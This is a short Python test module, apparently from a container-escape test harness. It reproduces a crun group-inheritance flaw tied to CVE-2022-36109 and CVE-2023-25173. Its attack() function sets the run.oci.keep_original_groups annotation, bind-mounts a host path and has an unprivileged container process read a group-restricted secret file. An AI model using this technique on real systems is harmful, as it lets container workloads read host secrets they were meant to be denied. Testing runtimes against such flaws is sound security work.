"""run.oci.keep_original_groups leaves the engine's own groups to the container, and their files."""

import os

from bypass import inert

SOURCE = "idea: crun(1); the ingredient of CVE-2022-36109 and CVE-2023-25173"
WAY = "create"
STOPPED = inert("the annotation is removed, and the groups are those that were written")
BARE = {"runc": "runc reads no run.oci annotation"}


def attack(t):
    os.setgroups([4242])
    os.chown(t.secret, 0, 4242)
    os.chmod(t.secret, 0o640)
    t.bind("/mnt/host", "/x")
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000}
    t.annotation("run.oci.keep_original_groups", "1")
    return t.leaked(t.run("cat /x/secret"))
